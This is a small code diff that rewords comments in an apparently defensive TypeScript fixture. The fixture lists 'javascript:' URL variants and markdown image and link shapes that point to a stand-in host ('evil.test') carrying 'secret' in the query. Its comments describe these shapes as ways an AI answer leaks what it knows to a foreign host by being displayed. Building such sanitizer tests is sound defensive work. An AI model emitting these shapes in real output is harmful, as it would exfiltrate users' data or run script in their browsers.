@@ -1,4 +1,4 @@
-/** What runs a script where a renderer is careless; X stands for the script. */
+/** URLs that run a script in a careless renderer. X stands for the script. */
 const urls = [
   'javascript:X',
   'JaVaScRiPt:X',
@@ -90,7 +90,7 @@ const hosts = [
   'ftp://evil.test/p?q=secret',
 ] as const;
 
-/** 100 shapes in which an answer would carry what it knows to a foreign host by being shown. */
+/** 100 shapes in which showing an answer would leak what it knows to a foreign host. */
 export const exfiltrations: readonly string[] = hosts.flatMap((host) => [
   `![](${host})`,
   `![a](${host} "${host}")`,
